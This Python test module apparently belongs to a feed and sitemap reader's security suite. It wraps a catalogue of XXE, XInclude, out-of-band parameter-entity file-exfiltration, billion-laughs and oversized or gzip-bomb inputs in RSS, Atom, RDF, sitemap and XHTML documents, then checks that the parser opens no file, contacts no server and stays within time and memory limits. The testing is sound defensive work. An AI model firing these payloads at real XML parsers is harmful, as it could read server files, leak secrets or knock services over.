"""XML that asks for files, servers, memory or time: it gets none of them.

Each payload is tried as RSS, Atom, RDF, a sitemap, an index of sitemaps and an XHTML page.
"""

import gzip
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from hostile.case import Case, Observation
from hostile.opening import Bait, laid
from hostile.reading import NOW, extract, extractor, prose
from worker.discover import feeds, sitemaps
from worker.errors import Refused
from worker.settings import DiscoverSettings

_SECONDS = 2.0
_HUGE_SECONDS = 10.0  # 100 MB, on a machine that does other things too
_MIB = 1024 * 1024

_LIMITS = sitemaps.SitemapLimits.from_settings(DiscoverSettings())
Read = Callable[[bytes], str]


def _feed(body: bytes) -> str:
    found = feeds.read(
        body,
        base_url="https://news.example/feed",
        content_type="application/xml",
        items_max=2_000,
        now=NOW,
    )
    return repr(found)


def _sitemap(body: bytes) -> str:
    found = sitemaps.read(
        body,
        base_url="https://news.example/sitemap.xml",
        content_type="application/xml",
        now=NOW,
        limits=_LIMITS,
    )
    return repr(found)


def _page(body: bytes) -> str:
    return repr(extract(body, content_type="application/xhtml+xml"))


#: Root's name, what goes into its start tag, and its content, where `{}` is the payload's.
_KINDS: dict[str, tuple[Read, str, str, str]] = {
    "rss": (_feed, "rss", 'version="2.0"',
            "<channel><title>{}</title><item><title>{}</title><link>https://news.example/1</link>"
            "<description>{}</description></item></channel>"),
    "atom": (_feed, "feed", 'xmlns="http://www.w3.org/2005/Atom"',
             "<title>{}</title><entry><title>{}</title><link href='https://news.example/1'/>"
             "<content type='xhtml'><div>{}</div></content></entry>"),
    "rdf": (_feed, "rdf:RDF", 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
            ' xmlns="http://purl.org/rss/1.0/"',
            "<channel><title>{}</title></channel><item><title>{}</title>"
            "<link>https://news.example/1</link></item>"),
    "sitemap": (_sitemap, "urlset", 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"',
                "<url><loc>https://news.example/{}</loc></url>{}"),
    "index": (_sitemap, "sitemapindex", 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"',
              "<sitemap><loc>https://news.example/{}</loc></sitemap>{}"),
    "page": (_page, "html", 'xmlns="http://www.w3.org/1999/xhtml"',
             "<head><title>{}</title></head><body><p>{}</p>" + prose() + "</body>"),
}  # fmt: skip

#: What stands before the root, in its start tag, and in its content; `{file}`, `{http}`, `{root}`.
_PAYLOADS: dict[str, tuple[str, str, str]] = {
    "entity of a file": ('<!DOCTYPE {root} [<!ENTITY e SYSTEM "{file}">]>', "", "&e;"),
    "entity of a path": ('<!DOCTYPE {root} [<!ENTITY e SYSTEM "{path}">]>', "", "&e;"),
    "entity of a server": ('<!DOCTYPE {root} [<!ENTITY e SYSTEM "{http}">]>', "", "&e;"),
    "public entity": ('<!DOCTYPE {root} [<!ENTITY e PUBLIC "x" "{http}">]>', "", "&e;"),
    "unparsed entity": (
        '<!DOCTYPE {root} [<!NOTATION n SYSTEM "x"><!ENTITY e SYSTEM "{file}" NDATA n>]>', "",
        "&e;"),
    "entity in an attribute": ('<!DOCTYPE {root} [<!ENTITY e SYSTEM "{file}">]>', 'a="&e;"', "x"),
    "document type of a file": ('<!DOCTYPE {root} SYSTEM "{file}">', "", "x"),
    "document type of a server": ('<!DOCTYPE {root} SYSTEM "{http}">', "", "&e;"),
    "public document type": ('<!DOCTYPE {root} PUBLIC "-//X//Y" "{http}">', "", "&nbsp;"),
    "parameter entity": ('<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{http}"> %p;]>', "", "x"),
    "parameter entity of a file": (
        '<!DOCTYPE {root} [<!ENTITY % f SYSTEM "{file}"><!ENTITY % p "<!ENTITY &#37; s SYSTEM'
        " '{http}?%f;'>\"> %p; %s;]>", "", "x"),
    "default of an attribute": (
        '<!DOCTYPE {root} [<!ENTITY e SYSTEM "{file}"><!ATTLIST {root} a CDATA "&e;">]>', "", "x"),
    "XInclude of a file": (
        "", 'xmlns:xi="http://www.w3.org/2001/XInclude"',
        '<xi:include href="{file}" parse="text"/>'),
    "XInclude of a server": (
        "", 'xmlns:xi="http://www.w3.org/2001/XInclude"',
        '<xi:include href="{http}"><xi:fallback>x</xi:fallback></xi:include>'),
    "stylesheet": ('<?xml-stylesheet type="text/xsl" href="{http}"?>', "", "x"),
    "stylesheet within": ("", "", '<?xml-stylesheet type="text/xsl" href="{file}"?>'),
    "schema": (
        "", 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        ' xsi:schemaLocation="urn:x {http}" xsi:noNamespaceSchemaLocation="{file}"', "x"),
    "base of a file": ("", 'xml:base="{file}"', "x"),
    "images and links": (
        "", "", '<link rel="stylesheet" href="{http}"/><img src="{http}"/><iframe src="{file}"/>'),
    "external document": ("", "", '<object data="{http}"/><script src="{http}"></script>'),
    "a billion laughs": (
        '<!DOCTYPE {root} [<!ENTITY a0 "ha">'
        + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11)) + "]>",
        "", "&a10;"),
    "a billion laughs by parameters": (
        '<!DOCTYPE {root} [<!ENTITY % a0 "ha">'
        + "".join(f'<!ENTITY % a{n} "{f"%a{n - 1};" * 10}">' for n in range(1, 11))
        + '<!ENTITY e "%a10;">]>', "", "&e;"),
    "quadratic growth": (
        '<!DOCTYPE {root} [<!ENTITY a "' + "a" * 100_000 + '">]>', "", "&a;" * 20_000),
    "an entity of itself": ('<!DOCTYPE {root} [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "", "&a;"),
    "an entity of markup": (
        "<!DOCTYPE {root} [<!ENTITY e \"<link>{file}</link>\">]>", "", "&e;"),
    "ten thousand entities": (
        "<!DOCTYPE {root} [" + "".join(f'<!ENTITY e{n} "x">' for n in range(10_000)) + "]>", "",
        "&e9999;"),
    "a document type without end": ("<!DOCTYPE {root} [" + "<!ENTITY a 'x'>" * 20_000, "", "&a;"),
    "document types": ("<!DOCTYPE {root} [" * 20_000, "", "x"),
    "declarations": ("<?xml version='1.0'?>" * 20_000, "", "x"),
    "instructions": ("<?x " * 20_000, "", "<?x ?>" * 5_000),
}  # fmt: skip

#: How a payload may be disguised: codecs of Python, and what its declaration says.
_DISGUISES = {
    "UTF-16": ("utf-16", "UTF-16"),
    "UTF-16 without a mark": ("utf-16-be", "UTF-16"),
    "UTF-32": ("utf-32", "UTF-32"),
    "UTF-7": ("utf-7", "UTF-7"),
    "EBCDIC": ("cp037", "IBM037"),
    "UTF-8 called UTF-16": ("utf-8", "UTF-16"),
    "UTF-8 called EBCDIC": ("utf-8", "cp500"),
    "UTF-8 called nothing": ("utf-8", "x-no-such-thing"),
    "Shift_JIS": ("shift_jis", "Shift_JIS"),
}


def cases() -> Iterator[Case]:
    """All of this area."""
    for kind in _KINDS:
        for name in _PAYLOADS:
            yield _case(f"{name}, {kind}", _tried(kind, name))
        for disguise, (codec, label) in _DISGUISES.items():
            for name in ("entity of a file", "entity of a server", "parameter entity"):
                run = _tried(kind, name, codec=codec, label=label)
                is_long = kind in ("atom", "rdf", "index")
                yield _case(f"{name} in {disguise}, {kind}", run, is_long=is_long)
    for name in ("a billion laughs", "entity of a file"):
        for kind in ("sitemap", "index"):
            yield _case(f"{name} in gzip, {kind}", _tried(kind, name, pack=gzip.compress))
    for name, expected, read, make in _HUGE:
        yield Case(area="xml", name=name, run=_huge(expected, read, make), is_long=True)


def _case(name: str, run: Callable[[], Observation], *, is_long: bool = False) -> Case:
    return Case(area="xml", name=name, run=run, is_long=is_long)


def _document(kind: str, payload: str, bait: Bait, label: str) -> str:
    _, root, attributes, content = _KINDS[kind]
    before, within, text = _PAYLOADS[payload]
    document = (
        f'<?xml version="1.0" encoding="{label}"?>{before}<{root} {attributes} {within}>'
        f"{content.replace('{}', text)}</{root}>"
    )
    for name, value in (
        ("{root}", root),
        ("{file}", bait.url),
        ("{path}", str(bait.path)),
        ("{http}", bait.address),
    ):
        document = document.replace(name, value)
    return document


def _tried(
    kind: str,
    payload: str,
    *,
    codec: str = "utf-8",
    label: str = "UTF-8",
    pack: Callable[[bytes], bytes] = bytes,
) -> Callable[[], Observation]:
    read = _KINDS[kind][0]

    def run() -> Observation:
        if kind == "page":
            extractor()
        with tempfile.TemporaryDirectory() as folder, laid(Path(folder)) as bait:
            body = pack(_document(kind, payload, bait, label).encode(codec))
            before = time.monotonic()
            try:
                found = read(body)
            except Refused as refused:
                found = refused.reason
            seconds = time.monotonic() - before
        faults = []
        if bait.opened_count:
            faults.append(f"opened the file {bait.opened_count} times")
        if bait.secret in found:
            faults.append("the file's content was read")
        if bait.asked:
            faults.append(f"asked the server: {bait.asked}")
        return Observation(
            expected="nothing opened",
            got="; ".join(faults) or "nothing opened",
            seconds=seconds,
            limit_seconds=_SECONDS,
            forbidden_connections=len(bait.asked),
        )

    return run


def _item(number: int) -> str:
    return (
        f"<item><title>Frigate {number} leaves</title><link>https://news.example/{number}</link>"
        f"<pubDate>Sun, 10 May 2026 10:00:00 GMT</pubDate><description>{'A ship sails. ' * 10}"
        "</description></item>"
    )


def _rss(content: str) -> bytes:
    return f'<rss version="2.0"><channel><title>News</title>{content}</channel></rss>'.encode()


def _urls(content: str) -> bytes:
    space = "http://www.sitemaps.org/schemas/sitemap/0.9"
    return f'<urlset xmlns="{space}">{content}</urlset>'.encode()


def _url(number: int) -> str:
    return f"<url><loc>https://news.example/{number}</loc><lastmod>2026-05-09</lastmod></url>"


def _count_of(read: Read, body: bytes) -> str:
    return f"{read(body).count('Item(')} items"


_HUGE: tuple[tuple[str, str, Read, Callable[[], bytes]], ...] = (
    ("a feed of 100,000 items", "2000 items", _feed,
     lambda: _rss("".join(map(_item, range(100_000))))),
    ("a feed of 100 MB", "2000 items", _feed,
     lambda: _rss("".join(map(_item, range(360_000))))),
    ("a title of 50 MB", "1 items", _feed,
     lambda: _rss(f"<item><title>{'x' * 50_000_000}</title><link>https://a.example/1</link></item>")),
    ("a description of 20 MB", "1 items", _feed,
     lambda: _rss("<item><link>https://a.example/1</link><description>"
                  + "&lt;b&gt;x&lt;/b&gt;" * 1_000_000 + "</description></item>")),
    ("ten million ampersands", "0 items", _feed, lambda: _rss("&" * 10_000_000)),
    ("ten million brackets", "refused", _feed, lambda: _rss("<" * 10_000_000)),
    ("a million sections", "refused", _feed, lambda: _rss("<![CDATA[x]]>" * 1_000_000)),
    ("a million elements", "refused", _feed, lambda: _rss("<a>" * 1_000_000)),
    ("100,000 elements deep", "0 items", _feed, lambda: _rss("<a>" * 100_000)),
    ("a sitemap of 52 MB", "50000 items", _sitemap,
     lambda: _urls("".join(map(_url, range(700_000))))),
    ("eight million instructions", "0 items", _sitemap, lambda: _urls("<?a ?>" * 8_000_000)),
    ("three million sections", "0 items", _sitemap,
     lambda: _urls("<url><loc>" + "<![CDATA[a]]>" * 3_000_000)),
    ("a .gz of 500 MB", "0 items", _sitemap,
     lambda: gzip.compress(_urls(" " * 500_000_000))),
    ("a .gz within a .gz", "0 items", _sitemap,
     lambda: gzip.compress(gzip.compress(_urls("<url><loc>" + "x" * 300_000_000)))),
)  # fmt: skip


def _huge(expected: str, read: Read, make: Callable[[], bytes]) -> Callable[[], Observation]:
    def run() -> Observation:
        body = make()
        _forget_peak()
        resident = _status_bytes("VmRSS")
        before = time.monotonic()
        try:
            got = _count_of(read, body)
        except Refused:
            got = "refused"
        return Observation(
            expected=expected,
            got=got,
            seconds=time.monotonic() - before,
            limit_seconds=_HUGE_SECONDS,
            peak_bytes=max(0, _status_bytes("VmHWM") - resident),
            limit_bytes=512 * _MIB,
        )

    return run


def _forget_peak() -> None:
    """VmHWM begins anew (proc(5), clear_refs)."""
    Path("/proc/self/clear_refs").write_text("5")


def _status_bytes(name: str) -> int:
    lines = Path("/proc/self/status").read_text().splitlines()
    return next(int(line.split()[1]) * 1024 for line in lines if line.startswith(f"{name}:"))
